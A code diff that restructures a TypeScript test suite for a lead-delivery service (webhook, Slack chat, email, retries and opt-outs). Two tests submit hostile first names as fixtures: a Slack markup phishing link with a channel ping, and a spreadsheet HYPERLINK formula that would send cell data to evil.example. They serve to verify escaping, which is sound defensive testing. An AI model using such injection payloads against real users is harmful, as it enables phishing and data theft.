@@ -26,261 +26,279 @@ export function signatureOf(request: Received) {
  */
 export function describeDelivery(storage: string, open: () => Promise<{ db: Database; close: () => Promise<void> }>) {
   describe(`lead delivery from server/ on ${storage}`, () => {
-    let db: Database
-    let close: () => Promise<void>
-    let siteDir: string
-    let app: { url: string; close: () => Promise<void> }
-    let delivery: LeadDelivery | undefined
-    let log: string[] = []
-    const receiver = startReceiver()
-    const smtp = startSmtpCapture()
-
-    beforeAll(async () => {
-      ;({ db, close } = await open())
-      await migrate(db)
-      siteDir = await makeSite()
-      app = await listen(createApp({ distDir: siteDir, db, rateLimit: false, onLeadStored: () => delivery?.wake() }))
-    }, 60_000)
-    beforeEach(async () => {
-      // What earlier tests (or suites on the same database) left undelivered must not reach this test's receiver.
-      await db.transaction((session) => session.query('delete from public.lead_notifications'))
-      ;(await receiver).received.length = 0
-      ;(await receiver).answer(() => ({ status: 200 }))
-      log = []
-    })
-    afterEach(async () => {
-      await delivery?.stop()
-      delivery = undefined
-    })
-    afterAll(async () => {
-      await app?.close()
-      await (await receiver).close()
-      await (await smtp).close()
-      await close?.()
-      await removeDir(siteDir)
-    })
-
-    async function deliverTo(targets: Partial<Record<'webhook' | 'chat' | 'email', true>>, overrides: Partial<DeliverySettings> = {}) {
-      const { url } = await receiver
-      delivery = await startLeadDelivery(
-        db,
-        {
-          targets: {
-            ...(targets.webhook ? { webhook: { url: `${url}/hook`, secret: SECRET } } : {}),
-            ...(targets.chat ? { chat: { url: `${url}/chat`, kind: 'slack' as const } } : {}),
-            ...(targets.email ? { email: { to: ['leads@agency.example'], from: 'site@agency.example' } } : {}),
-          },
-          smtpUrl: targets.email ? (await smtp).url : undefined,
-          sweepSeconds: 0.1,
-          retryBaseSeconds: 0.2,
-          leaseSeconds: 5,
-          ...overrides,
-        },
-        (line) => log.push(line),
-      )
-    }
-
-    async function send(overrides: Record<string, unknown> = {}) {
-      const row = lead(overrides)
-      const { error } = await supabase(app.url, ANON_KEY).from('contact_submissions').insert(row)
-      expect(error).toBeNull()
-      return row
-    }
-
-    async function sendOptOut(overrides: Record<string, unknown> = {}) {
-      const row = optOut(overrides)
-      const { error } = await supabase(app.url, ANON_KEY).from('contact_opt_outs').insert(row)
-      expect(error).toBeNull()
-      return row
-    }
-
-    const optOutDeliveries = (id: string) =>
-      db.transaction((session) =>
-        session.query<{ target: string; status: string; attempts: number }>('select target, status, attempts from public.lead_notifications where opt_out_id = $1 order by target', [id]),
-      )
-
-    async function deliveries(id: string) {
-      const { data, error } = await supabase(app.url, SERVICE_KEY).rpc('lead_deliveries', { lead_ids: [id] })
-      expect(error).toBeNull()
-      return data as { target: string; status: string; attempts: number; delivered_at: string | null; last_error: string | null }[]
-    }
-
-    it('delivers a stored lead at once: signed to the webhook whole, to the chat without contact details, by email', async () => {
-      await deliverTo({ webhook: true, chat: true, email: true })
-      const { at } = await receiver
-      const row = await send({ utm_source: 'google', gclid: 'Cj0' })
-      await eventually(async () => at('/hook').length === 1 && at('/chat').length === 1 && (await smtp).mails.length > 0, 15_000, () => log.join('\n'))
-
-      const [hook] = at('/hook')
-      expect(await verifyWebhook(SECRET, signatureOf(hook), hook.body)).toBe(true)
-      expect(await verifyWebhook(SECRET, signatureOf(hook), hook.body.replace('Ana', 'Eve'))).toBe(false)
-      const event = JSON.parse(hook.body)
-      expect(event).toMatchObject({ type: 'lead.created', data: { id: row.id, email: row.email, phone: row.phone, source: 'home_callback', utm_source: 'google', gclid: 'Cj0' } })
-      expect(event.data).not.toHaveProperty('website')
-
-      const chat = JSON.parse(at('/chat')[0].body).text as string
-      expect(chat).toContain(`New lead: Ana (Florida) from /`)
-      expect(chat).toContain(row.id)
-      expect(chat).not.toContain(row.email)
-      expect(chat).not.toContain(row.phone.replace(/\D/g, '').slice(-4))
-
-      const mail = (await smtp).mails.find((candidate) => candidate.raw.includes(row.id))
-      expect(mail?.to).toEqual(['leads@agency.example'])
-      expect(mail?.raw).toContain(`Phone: ${row.phone}`)
-      expect(mail?.raw).toContain(`Message-ID: <`)
-
-      await eventually(async () => (await deliveries(row.id)).every((delivery) => delivery.status === 'delivered'))
-      expect((await deliveries(row.id)).map(({ target, attempts }) => ({ target, attempts }))).toEqual([
-        { target: 'chat', attempts: 1 },
-        { target: 'email', attempts: 1 },
-        { target: 'webhook', attempts: 1 },
-      ])
-    }, 30_000)
-
-    it('delivers a stored opt-out at once, marked as one: its own signed webhook event, a chat message without contact details, the details by email', async () => {
-      await deliverTo({ webhook: true, chat: true, email: true })
-      const { at } = await receiver
-      const row = await sendOptOut({ stop: 'texts' })
-      await eventually(async () => at('/hook').length === 1 && at('/chat').length === 1 && (await smtp).mails.some((mail) => mail.raw.includes(row.id)), 15_000, () => log.join('\n'))
-
-      const [hook] = at('/hook')
-      expect(await verifyWebhook(SECRET, signatureOf(hook), hook.body)).toBe(true)
-      expect(JSON.parse(hook.body)).toMatchObject({ type: 'opt_out.created', data: { id: row.id, phone: row.phone, email: row.email, stop: 'texts', honor_by: expect.any(String) } })
-
-      const chat = JSON.parse(at('/chat')[0].body).text as string
-      expect(chat).toContain('Opt-out: stop text messages')
-      expect(chat).toContain(row.id)
-      expect(chat).not.toContain(row.email)
-      expect(chat).not.toContain(row.phone.replace(/\D/g, '').slice(-4))
-
-      const mail = (await smtp).mails.find((candidate) => candidate.raw.includes(row.id))
-      expect(mail?.raw).toContain('Subject: Opt-out: stop text messages')
-      expect(mail?.raw).toContain(`Phone: ${row.phone}`)
-      expect(readable(mail?.raw ?? '')).toContain(`Email: ${row.email}`)
-      await eventually(async () => (await optOutDeliveries(row.id)).every((delivery) => delivery.status === 'delivered'))
-      expect((await optOutDeliveries(row.id)).map(({ target }) => target)).toEqual(['chat', 'email', 'webhook'])
-    }, 30_000)
-
-    it('delivers every opt-out once the receiver is back after being down, each repeat with the same webhook-id', async () => {
-      const { at, answer } = await receiver
-      answer(() => ({ status: 503 }))
-      await deliverTo({ webhook: true })
-      const rows = [await sendOptOut(), await sendOptOut({ phone: null })]
-      await eventually(() => at('/hook').length >= 4)
-      answer(() => ({ status: 200 }))
-      for (const row of rows) await eventually(async () => (await optOutDeliveries(row.id))[0]?.status === 'delivered')
-      const byId = new Map<string, Set<string>>()
-      for (const request of at('/hook')) {
-        const id = String(request.headers['webhook-id'])
-        byId.set(id, new Set([...(byId.get(id) ?? []), JSON.parse(request.body).data.id]))
-      }
-      expect(byId.size).toBe(2)
-      expect([...byId.values()].map((ids) => ids.size)).toEqual([1, 1])
-      expect((await optOutDeliveries(rows[0].id))[0].attempts).toBeGreaterThan(1)
-    }, 30_000)
-
-    it('delivers a lead from a contact that opted out before it, saying so: the webhook, the chat and the email', async () => {
-      await deliverTo({ webhook: true, chat: true, email: true })
-      const { at } = await receiver
-      const earlier = await sendOptOut({ email: null })
-      const row = await send({ phone: earlier.phone })
-      await eventually(async () => at('/hook').length === 2 && at('/chat').length === 2 && (await smtp).mails.some((mail) => mail.raw.includes(row.id)), 15_000, () => log.join('\n'))
-      const leadEvent = at('/hook').map((request) => JSON.parse(request.body)).find((event) => event.type === 'lead.created')
-      expect(leadEvent.data).toMatchObject({ id: row.id, opted_out_earlier: { id: earlier.id, stop: 'all' } })
-      expect(at('/chat').map((request) => JSON.parse(request.body).text).find((text: string) => text.includes(row.id))).toContain('this lead is new consent')
-      expect(readable((await smtp).mails.find((mail) => mail.raw.includes(row.id))?.raw ?? '')).toContain('Earlier opt-out: This contact asked to stop calls, text messages and emails')
-    }, 30_000)
-
-    it("posts a first name made of Slack markup to the chat as text: no channel ping, no disguised link", async () => {
-      await deliverTo({ chat: true })
-      const { at } = await receiver
-      const row = await send({ first_name: '<!channel> <https://evil.example/login|Open this lead in the CRM>' })
-      await eventually(() => at('/chat').length === 1, 15_000, () => log.join('\n'))
-      const message = JSON.parse(at('/chat')[0].body)
-      expect(message).toEqual({ text: expect.stringContaining(`New lead: &lt;!channel&gt; &lt;https://evil.example/login|Open this lead in the CRM&gt; (Florida)`), mrkdwn: false })
-      expect(message.text).toContain(row.id)
-      expect(message.text).not.toMatch(/[<>]/)
-    })
-
-    it('posts a first name made of a spreadsheet formula to the webhook as text, and emails it as written', async () => {
-      await deliverTo({ webhook: true, email: true })
-      const { at } = await receiver
-      const formula = '=HYPERLINK("https://evil.example/?"&A1,"Details")'
-      const row = await send({ first_name: formula })
-      await eventually(async () => at('/hook').length === 1 && (await smtp).mails.some((mail) => mail.raw.includes(row.id)), 15_000, () => log.join('\n'))
-      expect(JSON.parse(at('/hook')[0].body).data).toMatchObject({ id: row.id, first_name: `'${formula}`, phone: row.phone })
-      const mail = (await smtp).mails.find((candidate) => candidate.raw.includes(row.id))
-      // The email carries the consent record's long lines, so it goes quoted-printable: read it decoded.
-      const decoded = (mail?.raw ?? '').replace(/=\r?\n/g, '').replace(/=([0-9A-F]{2})/g, (_, hex: string) => String.fromCharCode(parseInt(hex, 16)))
-      expect(decoded).toContain(`Name: ${formula} Diaz`)
-    })
-
-    it('logs one line per lead, without contact details, when no target is configured', async () => {
-      await deliverTo({})
-      const row = await send()
-      await eventually(() => log.some((line) => line.includes(row.id)))
-      expect(log.find((line) => line.includes(row.id))).toBe(`New lead ${row.id} from / (Florida)`)
-    })
-
-    it('delivers every lead once the receiver is back after being down, each repeat with the same webhook-id', async () => {
-      const { at, answer } = await receiver
-      answer(() => ({ status: 503 }))
-      await deliverTo({ webhook: true })
-      const rows = [await send(), await send(), await send()]
-      await eventually(() => new Set(at('/hook').map((request) => request.headers['webhook-id'])).size === 3 && at('/hook').length >= 6)
-      answer(() => ({ status: 200 }))
-      for (const row of rows) await eventually(async () => (await deliveries(row.id))[0].status === 'delivered')
-      const byId = new Map<string, string[]>()
-      for (const request of at('/hook')) {
-        const id = String(request.headers['webhook-id'])
-        byId.set(id, [...(byId.get(id) ?? []), JSON.parse(request.body).data.id])
-      }
-      // One webhook-id per lead, however many attempts it took, and each attempt carried its lead.
-      expect(byId.size).toBe(3)
-      expect([...byId.values()].map((leads) => new Set(leads).size)).toEqual([1, 1, 1])
-      expect(new Set([...byId.values()].map((leads) => leads[0]))).toEqual(new Set(rows.map((row) => row.id)))
-      const [report] = await deliveries(rows[0].id)
-      expect(report.attempts).toBeGreaterThan(1)
-      expect(report.delivered_at).not.toBeNull()
-    }, 30_000)
-
-    it("waits as long as a 429's Retry-After says before trying again", async () => {
-      const { at, answer } = await receiver
-      answer((_request, index) => (index === 0 ? { status: 429, headers: { 'retry-after': '2' } } : { status: 200 }))
-      await deliverTo({ webhook: true })
-      const row = await send()
-      await eventually(() => at('/hook').length === 2, 15_000)
-      const [first, second] = at('/hook')
-      expect(second.at - first.at).toBeGreaterThanOrEqual(2000)
-      expect(second.headers['webhook-id']).toBe(first.headers['webhook-id'])
-      await eventually(async () => (await deliveries(row.id))[0].status === 'delivered')
-    }, 20_000)
-
-    it('gives a target that answers 410 up at once and reports it through the chat, and in the delivery report', async () => {
-      const { at, answer } = await receiver
-      answer((request) => (request.path === '/hook' ? { status: 410 } : { status: 200 }))
-      await deliverTo({ webhook: true, chat: true })
-      const row = await send()
-      await eventually(() => at('/chat').some((request) => request.body.includes('Lead delivery failed (webhook)')), 15_000, () => log.join('\n') + at('/chat').map((r) => r.body).join('\n'))
-      const alert = JSON.parse(at('/chat').find((request) => request.body.includes('failed'))?.body ?? '{}').text as string
-      expect(alert).toContain(`Lead ${row.id}`)
-      expect(alert).toContain('answered 410')
-      expect(at('/hook')).toHaveLength(1)
-      const report = await deliveries(row.id)
-      expect(report.find((delivery) => delivery.target === 'webhook')).toMatchObject({ status: 'dead', attempts: 1, last_error: expect.stringContaining('410') })
-      expect(log.some((line) => line.startsWith('Lead delivery failed (webhook)'))).toBe(true)
-    }, 20_000)
-
-    it("stores the visitor's lead without waiting for a slow receiver", async () => {
-      const { at, answer } = await receiver
-      answer(() => ({ status: 200, delayMs: 3000 }))
-      await deliverTo({ webhook: true })
-      const row = await send()
-      const stored = Date.now()
-      await eventually(() => at('/hook')[0]?.answeredAt !== undefined, 10_000)
-      // The visitor had the answer before the receiver gave its own.
-      expect(stored).toBeLessThan(at('/hook')[0].answeredAt ?? 0)
-      await eventually(async () => (await deliveries(row.id))[0].status === 'delivered')
-    }, 20_000)
+    const harness = deliveryHarness(open)
+    describeDeliveries(harness)
+    describeDeliveryTrouble(harness)
   })
+}
+
+type DeliveryHarness = Awaited<ReturnType<typeof deliveryHarness>>
+
+/** server/ on a migrated database, a receiver and an SMTP capture, set up once and cleared before each test. */
+function deliveryHarness(open: () => Promise<{ db: Database; close: () => Promise<void> }>) {
+  let db: Database
+  let close: () => Promise<void>
+  let siteDir: string
+  let app: { url: string; close: () => Promise<void> }
+  let delivery: LeadDelivery | undefined
+  const log: string[] = []
+  const receiver = startReceiver()
+  const smtp = startSmtpCapture()
+
+  beforeAll(async () => {
+    ;({ db, close } = await open())
+    await migrate(db)
+    siteDir = await makeSite()
+    app = await listen(createApp({ distDir: siteDir, db, rateLimit: false, onLeadStored: () => delivery?.wake() }))
+  }, 60_000)
+  beforeEach(async () => {
+    // What earlier tests (or suites on the same database) left undelivered must not reach this test's receiver.
+    await db.transaction((session) => session.query('delete from public.lead_notifications'))
+    ;(await receiver).received.length = 0
+    ;(await receiver).answer(() => ({ status: 200 }))
+    log.length = 0
+  })
+  afterEach(async () => {
+    await delivery?.stop()
+    delivery = undefined
+  })
+  afterAll(async () => {
+    await app?.close()
+    await (await receiver).close()
+    await (await smtp).close()
+    await close?.()
+    await removeDir(siteDir)
+  })
+
+  async function deliverTo(targets: Partial<Record<'webhook' | 'chat' | 'email', true>>, overrides: Partial<DeliverySettings> = {}) {
+    const { url } = await receiver
+    delivery = await startLeadDelivery(
+      db,
+      {
+        targets: {
+          ...(targets.webhook ? { webhook: { url: `${url}/hook`, secret: SECRET } } : {}),
+          ...(targets.chat ? { chat: { url: `${url}/chat`, kind: 'slack' as const } } : {}),
+          ...(targets.email ? { email: { to: ['leads@agency.example'], from: 'site@agency.example' } } : {}),
+        },
+        smtpUrl: targets.email ? (await smtp).url : undefined,
+        sweepSeconds: 0.1,
+        retryBaseSeconds: 0.2,
+        leaseSeconds: 5,
+        ...overrides,
+      },
+      (line) => log.push(line),
+    )
+  }
+
+  async function send(overrides: Record<string, unknown> = {}) {
+    const row = lead(overrides)
+    const { error } = await supabase(app.url, ANON_KEY).from('contact_submissions').insert(row)
+    expect(error).toBeNull()
+    return row
+  }
+
+  async function sendOptOut(overrides: Record<string, unknown> = {}) {
+    const row = optOut(overrides)
+    const { error } = await supabase(app.url, ANON_KEY).from('contact_opt_outs').insert(row)
+    expect(error).toBeNull()
+    return row
+  }
+
+  const optOutDeliveries = (id: string) =>
+    db.transaction((session) =>
+      session.query<{ target: string; status: string; attempts: number }>('select target, status, attempts from public.lead_notifications where opt_out_id = $1 order by target', [id]),
+    )
+
+  async function deliveries(id: string) {
+    const { data, error } = await supabase(app.url, SERVICE_KEY).rpc('lead_deliveries', { lead_ids: [id] })
+    expect(error).toBeNull()
+    return data as { target: string; status: string; attempts: number; delivered_at: string | null; last_error: string | null }[]
+  }
+
+  return { receiver, smtp, log, deliverTo, send, sendOptOut, optOutDeliveries, deliveries }
+}
+
+/** Leads and opt-outs reaching every target, in words that cannot be mistaken for markup or formulas. */
+function describeDeliveries({ receiver, smtp, log, deliverTo, send, sendOptOut, optOutDeliveries, deliveries }: DeliveryHarness) {
+  it('delivers a stored lead at once: signed to the webhook whole, to the chat without contact details, by email', async () => {
+    await deliverTo({ webhook: true, chat: true, email: true })
+    const { at } = await receiver
+    const row = await send({ utm_source: 'google', gclid: 'Cj0' })
+    await eventually(async () => at('/hook').length === 1 && at('/chat').length === 1 && (await smtp).mails.length > 0, 15_000, () => log.join('\n'))
+
+    const [hook] = at('/hook')
+    expect(await verifyWebhook(SECRET, signatureOf(hook), hook.body)).toBe(true)
+    expect(await verifyWebhook(SECRET, signatureOf(hook), hook.body.replace('Ana', 'Eve'))).toBe(false)
+    const event = JSON.parse(hook.body)
+    expect(event).toMatchObject({ type: 'lead.created', data: { id: row.id, email: row.email, phone: row.phone, source: 'home_callback', utm_source: 'google', gclid: 'Cj0' } })
+    expect(event.data).not.toHaveProperty('website')
+
+    const chat = JSON.parse(at('/chat')[0].body).text as string
+    expect(chat).toContain(`New lead: Ana (Florida) from /`)
+    expect(chat).toContain(row.id)
+    expect(chat).not.toContain(row.email)
+    expect(chat).not.toContain(row.phone.replace(/\D/g, '').slice(-4))
+
+    const mail = (await smtp).mails.find((candidate) => candidate.raw.includes(row.id))
+    expect(mail?.to).toEqual(['leads@agency.example'])
+    expect(mail?.raw).toContain(`Phone: ${row.phone}`)
+    expect(mail?.raw).toContain(`Message-ID: <`)
+
+    await eventually(async () => (await deliveries(row.id)).every((delivery) => delivery.status === 'delivered'))
+    expect((await deliveries(row.id)).map(({ target, attempts }) => ({ target, attempts }))).toEqual([
+      { target: 'chat', attempts: 1 },
+      { target: 'email', attempts: 1 },
+      { target: 'webhook', attempts: 1 },
+    ])
+  }, 30_000)
+
+  it('delivers a stored opt-out at once, marked as one: its own signed webhook event, a chat message without contact details, the details by email', async () => {
+    await deliverTo({ webhook: true, chat: true, email: true })
+    const { at } = await receiver
+    const row = await sendOptOut({ stop: 'texts' })
+    await eventually(async () => at('/hook').length === 1 && at('/chat').length === 1 && (await smtp).mails.some((mail) => mail.raw.includes(row.id)), 15_000, () => log.join('\n'))
+
+    const [hook] = at('/hook')
+    expect(await verifyWebhook(SECRET, signatureOf(hook), hook.body)).toBe(true)
+    expect(JSON.parse(hook.body)).toMatchObject({ type: 'opt_out.created', data: { id: row.id, phone: row.phone, email: row.email, stop: 'texts', honor_by: expect.any(String) } })
+
+    const chat = JSON.parse(at('/chat')[0].body).text as string
+    expect(chat).toContain('Opt-out: stop text messages')
+    expect(chat).toContain(row.id)
+    expect(chat).not.toContain(row.email)
+    expect(chat).not.toContain(row.phone.replace(/\D/g, '').slice(-4))
+
+    const mail = (await smtp).mails.find((candidate) => candidate.raw.includes(row.id))
+    expect(mail?.raw).toContain('Subject: Opt-out: stop text messages')
+    expect(mail?.raw).toContain(`Phone: ${row.phone}`)
+    expect(readable(mail?.raw ?? '')).toContain(`Email: ${row.email}`)
+    await eventually(async () => (await optOutDeliveries(row.id)).every((delivery) => delivery.status === 'delivered'))
+    expect((await optOutDeliveries(row.id)).map(({ target }) => target)).toEqual(['chat', 'email', 'webhook'])
+  }, 30_000)
+
+  it('delivers every opt-out once the receiver is back after being down, each repeat with the same webhook-id', async () => {
+    const { at, answer } = await receiver
+    answer(() => ({ status: 503 }))
+    await deliverTo({ webhook: true })
+    const rows = [await sendOptOut(), await sendOptOut({ phone: null })]
+    await eventually(() => at('/hook').length >= 4)
+    answer(() => ({ status: 200 }))
+    for (const row of rows) await eventually(async () => (await optOutDeliveries(row.id))[0]?.status === 'delivered')
+    const byId = new Map<string, Set<string>>()
+    for (const request of at('/hook')) {
+      const id = String(request.headers['webhook-id'])
+      byId.set(id, new Set([...(byId.get(id) ?? []), JSON.parse(request.body).data.id]))
+    }
+    expect(byId.size).toBe(2)
+    expect([...byId.values()].map((ids) => ids.size)).toEqual([1, 1])
+    expect((await optOutDeliveries(rows[0].id))[0].attempts).toBeGreaterThan(1)
+  }, 30_000)
+
+  it('delivers a lead from a contact that opted out before it, saying so: the webhook, the chat and the email', async () => {
+    await deliverTo({ webhook: true, chat: true, email: true })
+    const { at } = await receiver
+    const earlier = await sendOptOut({ email: null })
+    const row = await send({ phone: earlier.phone })
+    await eventually(async () => at('/hook').length === 2 && at('/chat').length === 2 && (await smtp).mails.some((mail) => mail.raw.includes(row.id)), 15_000, () => log.join('\n'))
+    const leadEvent = at('/hook').map((request) => JSON.parse(request.body)).find((event) => event.type === 'lead.created')
+    expect(leadEvent.data).toMatchObject({ id: row.id, opted_out_earlier: { id: earlier.id, stop: 'all' } })
+    expect(at('/chat').map((request) => JSON.parse(request.body).text).find((text: string) => text.includes(row.id))).toContain('this lead is new consent')
+    expect(readable((await smtp).mails.find((mail) => mail.raw.includes(row.id))?.raw ?? '')).toContain('Earlier opt-out: This contact asked to stop calls, text messages and emails')
+  }, 30_000)
+
+  it("posts a first name made of Slack markup to the chat as text: no channel ping, no disguised link", async () => {
+    await deliverTo({ chat: true })
+    const { at } = await receiver
+    const row = await send({ first_name: '<!channel> <https://evil.example/login|Open this lead in the CRM>' })
+    await eventually(() => at('/chat').length === 1, 15_000, () => log.join('\n'))
+    const message = JSON.parse(at('/chat')[0].body)
+    expect(message).toEqual({ text: expect.stringContaining(`New lead: &lt;!channel&gt; &lt;https://evil.example/login|Open this lead in the CRM&gt; (Florida)`), mrkdwn: false })
+    expect(message.text).toContain(row.id)
+    expect(message.text).not.toMatch(/[<>]/)
+  })
+
+  it('posts a first name made of a spreadsheet formula to the webhook as text, and emails it as written', async () => {
+    await deliverTo({ webhook: true, email: true })
+    const { at } = await receiver
+    const formula = '=HYPERLINK("https://evil.example/?"&A1,"Details")'
+    const row = await send({ first_name: formula })
+    await eventually(async () => at('/hook').length === 1 && (await smtp).mails.some((mail) => mail.raw.includes(row.id)), 15_000, () => log.join('\n'))
+    expect(JSON.parse(at('/hook')[0].body).data).toMatchObject({ id: row.id, first_name: `'${formula}`, phone: row.phone })
+    const mail = (await smtp).mails.find((candidate) => candidate.raw.includes(row.id))
+    // The email carries the consent record's long lines, so it goes quoted-printable: read it decoded.
+    const decoded = (mail?.raw ?? '').replace(/=\r?\n/g, '').replace(/=([0-9A-F]{2})/g, (_, hex: string) => String.fromCharCode(parseInt(hex, 16)))
+    expect(decoded).toContain(`Name: ${formula} Diaz`)
+  })
+
+}
+
+/** No target configured, a receiver that is down, slow, rate-limiting or gone. */
+function describeDeliveryTrouble({ receiver, log, deliverTo, send, deliveries }: DeliveryHarness) {
+  it('logs one line per lead, without contact details, when no target is configured', async () => {
+    await deliverTo({})
+    const row = await send()
+    await eventually(() => log.some((line) => line.includes(row.id)))
+    expect(log.find((line) => line.includes(row.id))).toBe(`New lead ${row.id} from / (Florida)`)
+  })
+
+  it('delivers every lead once the receiver is back after being down, each repeat with the same webhook-id', async () => {
+    const { at, answer } = await receiver
+    answer(() => ({ status: 503 }))
+    await deliverTo({ webhook: true })
+    const rows = [await send(), await send(), await send()]
+    await eventually(() => new Set(at('/hook').map((request) => request.headers['webhook-id'])).size === 3 && at('/hook').length >= 6)
+    answer(() => ({ status: 200 }))
+    for (const row of rows) await eventually(async () => (await deliveries(row.id))[0].status === 'delivered')
+    const byId = new Map<string, string[]>()
+    for (const request of at('/hook')) {
+      const id = String(request.headers['webhook-id'])
+      byId.set(id, [...(byId.get(id) ?? []), JSON.parse(request.body).data.id])
+    }
+    // One webhook-id per lead, however many attempts it took, and each attempt carried its lead.
+    expect(byId.size).toBe(3)
+    expect([...byId.values()].map((leads) => new Set(leads).size)).toEqual([1, 1, 1])
+    expect(new Set([...byId.values()].map((leads) => leads[0]))).toEqual(new Set(rows.map((row) => row.id)))
+    const [report] = await deliveries(rows[0].id)
+    expect(report.attempts).toBeGreaterThan(1)
+    expect(report.delivered_at).not.toBeNull()
+  }, 30_000)
+
+  it("waits as long as a 429's Retry-After says before trying again", async () => {
+    const { at, answer } = await receiver
+    answer((_request, index) => (index === 0 ? { status: 429, headers: { 'retry-after': '2' } } : { status: 200 }))
+    await deliverTo({ webhook: true })
+    const row = await send()
+    await eventually(() => at('/hook').length === 2, 15_000)
+    const [first, second] = at('/hook')
+    expect(second.at - first.at).toBeGreaterThanOrEqual(2000)
+    expect(second.headers['webhook-id']).toBe(first.headers['webhook-id'])
+    await eventually(async () => (await deliveries(row.id))[0].status === 'delivered')
+  }, 20_000)
+
+  it('gives a target that answers 410 up at once and reports it through the chat, and in the delivery report', async () => {
+    const { at, answer } = await receiver
+    answer((request) => (request.path === '/hook' ? { status: 410 } : { status: 200 }))
+    await deliverTo({ webhook: true, chat: true })
+    const row = await send()
+    await eventually(() => at('/chat').some((request) => request.body.includes('Lead delivery failed (webhook)')), 15_000, () => log.join('\n') + at('/chat').map((r) => r.body).join('\n'))
+    const alert = JSON.parse(at('/chat').find((request) => request.body.includes('failed'))?.body ?? '{}').text as string
+    expect(alert).toContain(`Lead ${row.id}`)
+    expect(alert).toContain('answered 410')
+    expect(at('/hook')).toHaveLength(1)
+    const report = await deliveries(row.id)
+    expect(report.find((delivery) => delivery.target === 'webhook')).toMatchObject({ status: 'dead', attempts: 1, last_error: expect.stringContaining('410') })
+    expect(log.some((line) => line.startsWith('Lead delivery failed (webhook)'))).toBe(true)
+  }, 20_000)
+
+  it("stores the visitor's lead without waiting for a slow receiver", async () => {
+    const { at, answer } = await receiver
+    answer(() => ({ status: 200, delayMs: 3000 }))
+    await deliverTo({ webhook: true })
+    const row = await send()
+    const stored = Date.now()
+    await eventually(() => at('/hook')[0]?.answeredAt !== undefined, 10_000)
+    // The visitor had the answer before the receiver gave its own.
+    expect(stored).toBeLessThan(at('/hook')[0].answeredAt ?? 0)
+    await eventually(async () => (await deliveries(row.id))[0].status === 'delivered')
+  }, 20_000)
 }
